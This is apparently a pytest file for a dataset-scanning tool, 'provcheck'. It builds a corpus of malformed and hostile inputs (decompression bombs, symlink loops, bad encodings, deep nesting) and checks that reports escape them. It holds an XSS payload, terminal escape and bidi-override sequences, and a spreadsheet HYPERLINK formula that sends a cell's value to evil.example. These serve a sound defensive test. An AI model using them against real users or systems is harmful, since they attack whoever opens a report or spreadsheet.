"""The hostile corpus: every kind of bad input an attacker or an accident produces, in one scan.

The corpus is built at test time in a temporary directory (the big files are generated, never
committed). One ``provcheck scan`` run over it must complete, report exactly one located error
per bad file or record, scan every good record (copies of indexed texts among them are found),
stay within bounded memory, and write reports in which nothing from the data can act: no
terminal escape sequences, no markup, no spreadsheet formulas.
"""

from __future__ import annotations

import bz2
import csv
import gzip
import json
import lzma
import os
import stat
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import zstandard

from helpers import REFERENCE_TEXTS, UNRELATED_TEXT, check_json_report, run_cli, write_jsonl

pytestmark = pytest.mark.slow  # whole processes, real repositories or kills: `make unit` skips them

ESCAPES = "\x1b[2J\x1b[1A\x1b]8;;https://evil.example\x07click\x1b]8;;\x07\u202eevil\r"
"""Terminal control a record carries: clear screen, cursor up, a hyperlink, a bidi override."""
SCRIPT = '<script>alert("pwned")</script><img src=x onerror=alert(2)>'
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"x")'
MIB = 2**20


@dataclass(frozen=True)
class Bad:
    """An error the scan must report: where, and what kind."""

    path: str
    line: int | None
    kind: str
    says: str
    index: int | None = None


def _inside(text: str, insert: str) -> str:
    """``text`` with ``insert`` after its tenth word (inside the copied span a report shows)."""
    words = text.split()
    return " ".join([*words[:10], insert, *words[10:]])


def _bomb(compress: Callable[[bytes], bytes], head: bytes, unit: bytes, members: int) -> bytes:
    """A compressed file of one good line then ``members`` copies of ``unit`` (concatenated
    members/frames/streams, which every format decodes one after the other)."""
    return compress(head) + compress(unit) * members


def build(root: Path) -> tuple[list[Bad], int]:
    """Write the corpus under ``root``; the errors expected and the number of good records."""
    bad: list[Bad] = []
    good = 0

    def rel(name: str) -> str:
        return str(root / name)

    def line(text: str, **extra: object) -> bytes:
        return (json.dumps({"text": text, **extra}, ensure_ascii=False) + "\n").encode()

    # One JSON Lines file holding one bad record of each kind between good ones.
    mixed = [
        line(REFERENCE_TEXTS[0], id="copy-0"),  # the known copy
        b'{"text": "unterminated\n',  # malformed JSON
        '{"text": "caf\xe9 latin-1"}\n'.encode("latin-1"),  # invalid UTF-8 (another encoding)
        b'{"text": "a NUL \x00 byte"}\n',  # NUL byte
        line("   \t  "),  # whitespace only: no text
        line("🙂🙃👍🏽🎉"),  # emoji only: text without words, scanned
        ('{"text": "deep", "x": ' + "[" * 300 + "]" * 300 + "}\n").encode(),  # nested too deep
        b"[1, 2, 3]\n",  # valid JSON, not a record
        line(f"{SCRIPT} {FORMULA} {_inside(REFERENCE_TEXTS[2], ESCAPES)}", id=f"{FORMULA}{ESCAPES}"),
        line(UNRELATED_TEXT, id="clean"),
    ]
    (root / "mixed.jsonl").write_bytes(b"".join(mixed))
    bad += [
        Bad(rel("mixed.jsonl"), 2, "parse", "invalid JSON", 1),
        Bad(rel("mixed.jsonl"), 3, "encoding", "invalid UTF-8", 2),
        Bad(rel("mixed.jsonl"), 4, "encoding", "NUL byte", 3),
        Bad(rel("mixed.jsonl"), 5, "schema", "no text found", 4),
        Bad(rel("mixed.jsonl"), 7, "limit", "nested more than 200 levels deep", 6),
        Bad(rel("mixed.jsonl"), 8, "schema", "expected a JSON object", 7),
    ]
    good += 4  # copy-0, the emoji record, the hostile copy, the clean one

    # Encodings: UTF-16 with a BOM is read; without one it is named.
    utf16 = "".join(json.dumps({"text": t}) + "\n" for t in (REFERENCE_TEXTS[1], UNRELATED_TEXT))
    (root / "utf16.jsonl").write_bytes(b"\xff\xfe" + utf16.encode("utf-16-le"))
    good += 2
    (root / "utf16-no-bom.jsonl").write_bytes(utf16.encode("utf-16-le"))
    bad.append(Bad(rel("utf16-no-bom.jsonl"), None, "file", "UTF-16-LE text without a byte-order mark"))

    # Binary data, an empty file, a Git LFS pointer.
    (root / "weights.jsonl").write_bytes(b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + bytes(range(256)) * 64)
    bad.append(Bad(rel("weights.jsonl"), None, "file", "binary data"))
    (root / "empty.jsonl").write_bytes(b"")
    bad.append(Bad(rel("empty.jsonl"), None, "file", "empty file"))
    (root / "pointer.jsonl").write_text(
        "version https://git-lfs.github.com/spec/v1\noid sha256:" + "ab" * 32 + "\nsize 123456\n"
    )
    bad.append(Bad(rel("pointer.jsonl"), None, "file", "Git LFS pointer"))

    # One 500 MB line between two good records: skipped past, never held whole.
    with open(root / "one-long-line.jsonl", "wb") as fh:
        fh.write(line(UNRELATED_TEXT + " first"))
        fh.write(b'{"text": "')
        chunk = b"lorem ipsum " * (4 * MIB // 12)
        for _ in range(500 * MIB // len(chunk)):
            fh.write(chunk)
        fh.write(b'"}\n')
        fh.write(line(UNRELATED_TEXT + " last"))
    bad.append(Bad(rel("one-long-line.jsonl"), 2, "limit", "larger than the 64 MiB limit", 1))
    good += 2

    # Decompression bombs: a few hundred kB expanding to many GB of one endless line.
    unit = b"a" * (8 * MIB)
    head = line(UNRELATED_TEXT + " before the bomb")
    for suffix, compress, members in (
        ("gz", gzip.compress, 128),  # 1 GiB from 1 MB (deflate cannot expand more than ~1000x)
        ("xz", lzma.compress, 1024),  # 8 GiB from 1.2 MB
        ("bz2", bz2.compress, 1024),  # 8 GiB from 50 kB
        ("zst", zstandard.ZstdCompressor(level=19).compress, 2048),  # 16 GiB from 600 kB
    ):
        name = f"bomb.jsonl.{suffix}"
        (root / name).write_bytes(_bomb(compress, head, unit, members))
        limit = max(256 * MIB, 200 * (root / name).stat().st_size)  # the documented bound
        bad.append(Bad(rel(name), 2, "limit", f"decompressed size exceeds {limit:,} bytes"))
        good += 1

    # A truncated archive: the records before the damage are scanned.
    rows = "".join(json.dumps({"text": f"{UNRELATED_TEXT} {i}"}) + "\n" for i in range(400)).encode()
    cut = gzip.compress(rows)
    (root / "cut.jsonl.gz").write_bytes(cut[: len(cut) // 2])

    # A CSV with a 10 MB field, and a copy after it.
    with open(root / "wide.csv", "w", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh)
        writer.writerow(["id", "text"])
        writer.writerow(["wide", "word " * (2 * MIB)])
        writer.writerow(["copy-1", REFERENCE_TEXTS[1]])
    good += 2

    # Parquet with a schema nothing can be read from, and one with odd columns beside text.
    pq.write_table(pa.table({"n": [1, 2, 3], "score": [0.1, 0.2, 0.3]}), root / "numbers.parquet")
    bad.append(Bad(rel("numbers.parquet"), None, "schema", "no column can hold text"))
    odd = pa.table(
        {
            "text": pa.array([REFERENCE_TEXTS[0].encode(), b"\xff\xfe\x00 not text"], type=pa.binary()),
            "tags": pa.array([{"k": [1, 2]}, None]),
            "when": pa.array([1, 2], type=pa.timestamp("s")),
        }
    )
    pq.write_table(odd, root / "odd.parquet")
    bad.append(Bad(rel("odd.parquet"), None, "schema", "no text found", 1))
    good += 1

    # A JSON array whose last element nests too deeply: the elements before it are read.
    (root / "array.json").write_text(
        "[" + json.dumps({"text": UNRELATED_TEXT}) + ",\n" + '{"x": ' + "[" * 5000 + "]" * 5000 + "}]"
    )
    bad.append(Bad(rel("array.json"), 2, "limit", "nested more than 200 levels deep", 1))
    good += 1

    # Symbolic links: a loop of file links, and a directory link back up (not followed).
    (root / "loop-a.jsonl").symlink_to(root / "loop-b.jsonl")
    (root / "loop-b.jsonl").symlink_to(root / "loop-a.jsonl")
    bad += [Bad(rel(n), None, "file", "symbolic link loop") for n in ("loop-a.jsonl", "loop-b.jsonl")]
    (root / "sub").mkdir()
    (root / "sub" / "up").symlink_to(root, target_is_directory=True)
    write_jsonl(root / "sub" / "fine.jsonl", [{"text": UNRELATED_TEXT + " in a folder"}])
    good += 1

    # Lone UTF-16 surrogates (valid JSON escapes, not Unicode) and a file name that is not UTF-8:
    # read with U+FFFD in their place, so reports can be written and the copy is still found.
    sur = '{"id": "\\udc80x", "text": "\\ud800 ' + REFERENCE_TEXTS[0] + '"}\n'
    with open(os.path.join(os.fsencode(root), b"\xff\xfe-latin.jsonl"), "w") as fh:
        fh.write(sur + "{oops\n")
    bad.append(Bad(rel("\ufffd\ufffd-latin.jsonl"), 2, "parse", "invalid JSON", 1))
    good += 1

    # A file name made of control characters, holding a bad record.
    odd_name = f"name{ESCAPES.replace('/', '-')}.jsonl"
    (root / odd_name).write_bytes(line(UNRELATED_TEXT + " odd name") + b"{oops\n")
    bad.append(Bad(rel(odd_name), 2, "parse", "invalid JSON", 1))
    good += 1
    return bad, good


def _truncated_rows(report: dict[str, object], root: Path) -> int:
    (summary,) = [f for f in report["files"] if f["path"] == str(root / "cut.jsonl.gz")]  # type: ignore[attr-defined,index]
    return int(summary["records"])


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)


def test_the_hostile_corpus_is_scanned_in_one_run(tmp_path: Path, index_dir: Path) -> None:
    root = tmp_path / "corpus"
    root.mkdir()
    try:
        bad, good = build(root)
        out = tmp_path / "out"
        out.mkdir()
        formats = ("json", "html", "csv", "markdown", "sarif", "junit", "text")
        args = [sys.executable, "-m", "provcheck", "scan", str(root), "--index", str(index_dir)]
        for fmt in formats:
            args += ["-f", fmt, "-o", str(out / f"report.{fmt}")]
        # One more output onto a copy of /dev/null: written through, never replaced by a file.
        null = tmp_path / "null"
        if os.geteuid() == 0:
            os.mknod(null, stat.S_IFCHR | 0o666, os.makedev(1, 3))
            args += ["-f", "json", "-o", str(null)]
        with open(tmp_path / "stderr", "w+b") as err:
            proc = subprocess.Popen(args, stdout=subprocess.DEVNULL, stderr=err)
            _, status, usage = os.wait4(proc.pid, 0)
            proc.returncode = os.waitstatus_to_exitcode(status)
            err.seek(0)
            stderr = err.read().decode("utf-8", "replace")
    finally:
        (root / "one-long-line.jsonl").unlink(missing_ok=True)  # 500 MB: never leave it behind
    # Unreadable input (exit 4), no finding blocks without a policy, nothing crashed.
    assert proc.returncode == 4, stderr
    assert not null.exists() or stat.S_ISCHR(os.stat(null).st_mode), "a device was replaced"
    peak_mib = usage.ru_maxrss / 1024
    print(f"\nhostile corpus scanned in one run; peak memory {peak_mib:.0f} MiB")
    assert peak_mib < 1200, "memory must stay bounded by the documented limits"

    report = json.loads((out / "report.json").read_text())
    check_json_report(report)
    errors = report["errors"]
    # Exactly one located error per bad file or record ...
    for want in bad:
        found = [
            e for e in errors if e["path"] == want.path and e["line"] == want.line and e["kind"] == want.kind
        ]
        assert len(found) == 1, (want, [e for e in errors if e["path"] == want.path])
        assert want.says in found[0]["message"] and found[0]["index"] == want.index, found[0]
    (cut,) = [e for e in errors if e["path"] == str(root / "cut.jsonl.gz")]
    assert cut["kind"] == "file" and "corrupt or truncated" in cut["message"]
    assert cut["line"] == _truncated_rows(report, root) + 1
    assert len(errors) == len(bad) + 1, [e for e in errors if all(e["path"] != b.path for b in bad)]
    # ... and every good record scanned.
    assert report["stats"]["records"] == good + _truncated_rows(report, root)
    assert 0 < _truncated_rows(report, root) < 400
    copies = {(m["record"]["path"], m["record"]["id"], m["reference"]["id"]) for m in report["matches"]}
    assert copies == {
        (str(root / "mixed.jsonl"), "copy-0", "ref-0"),
        (str(root / "mixed.jsonl"), f"{FORMULA}{ESCAPES}", "ref-2"),
        (str(root / "utf16.jsonl"), None, "ref-1"),
        (str(root / "wide.csv"), "copy-1", "ref-1"),
        (str(root / "odd.parquet"), None, "ref-0"),
        (str(root / "\ufffd\ufffd-latin.jsonl"), "\ufffdx", "ref-0"),
    }

    # Nothing from the data acts on whoever reads a report.
    text = (out / "report.text").read_text()
    for shown in (text, stderr):
        assert "\x1b" not in shown and "\u202e" not in shown and "\r" not in shown and "\x07" not in shown
    assert "\\x1b[2J" in text and "\\u202e" in text and "\\x1b[2J" in stderr  # shown, escaped
    html = (out / "report.html").read_text()
    tags = _Tags()
    tags.feed(html)
    assert tags.tags.count("script") == 1 and "img" not in tags.tags  # the page's own script only
    assert "&lt;script&gt;alert(&quot;pwned&quot;)&lt;/script&gt;" in html
    with open(out / "report.csv", newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    hostile = [r for r in rows if r["record_id"].endswith(ESCAPES)]
    assert len(hostile) == 1 and hostile[0]["record_id"] == "'" + FORMULA + ESCAPES  # kept, not a formula
    for r in rows:
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in r.values()), r
    markdown = (out / "report.markdown").read_text()
    assert "\x1b" not in markdown and "\u202e" not in markdown and "name\\\\x1b\\[2J" in markdown
    json.loads((out / "report.sarif").read_text())  # well-formed
    ElementTree.fromstring((out / "report.junit").read_bytes())  # well-formed: no control characters


@pytest.mark.parametrize("key", ["index", "policy", "waivers", "cache"])
def test_a_configuration_path_outside_the_repository_stops_the_run(
    tmp_path: Path, index_dir: Path, key: str
) -> None:
    repo = tmp_path / "repo"
    (repo / ".git").mkdir(parents=True)
    write_jsonl(repo / "data" / "d.jsonl", [{"text": UNRELATED_TEXT}])
    value = {"index": "../index", "policy": "../../p.yaml", "waivers": "../w.yaml", "cache": "../c"}[key]
    lines = {"index": f"index: {index_dir}\n"} if key != "index" else {}
    config = repo / ".provcheck.yaml"
    config.write_text("".join(lines.values()) + f"{key}: {value}\n")
    cwd = os.getcwd()
    os.chdir(repo)
    try:
        result = run_cli(["scan", "data"], 6)
    finally:
        os.chdir(cwd)
    line = 2 if key != "index" else 1
    assert f"{config}:{line}: {key}: {value!r} leads to" in result.stderr
    assert (
        "outside the repository" in result.stderr and "a relative path must stay inside it" in result.stderr
    )


def test_records_nested_near_python_limits_do_not_break_worker_processes(
    tmp_path: Path, index_dir: Path
) -> None:
    # Nesting that json can parse but that cannot be pickled to a worker process (it used to end
    # the scan with an internal error under -j 2); the limit turns it into a located error.
    rows = [json.dumps({"text": f"{UNRELATED_TEXT} {i}"}) for i in range(600)]
    rows[300] = '{"text": "deep", "x": ' + "[" * 950 + "]" * 950 + "}"
    rows[450] = json.dumps({"text": REFERENCE_TEXTS[0]})
    data = tmp_path / "d.jsonl"
    data.write_text("\n".join(rows) + "\n")
    result = run_cli(["scan", data, "--index", index_dir, "-j", "2", "-f", "json", "-q"], 4)
    report = json.loads(result.stdout)
    assert [(e["line"], e["kind"]) for e in report["errors"]] == [(301, "limit")]
    assert report["stats"]["records"] == 599 and [m["record"]["line"] for m in report["matches"]] == [451]
